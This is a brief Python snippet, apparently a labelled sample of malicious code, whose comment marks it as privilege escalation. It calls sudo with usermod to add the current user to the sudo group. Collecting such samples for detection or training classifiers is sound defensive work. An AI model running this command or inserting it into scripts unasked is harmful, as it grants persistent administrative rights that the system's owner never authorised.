# Malicious: uses sudo to add the current user to the sudo group; privilege escalation.
import getpass
import subprocess

subprocess.run(["sudo", "usermod", "-aG", "sudo", getpass.getuser()], check=True)
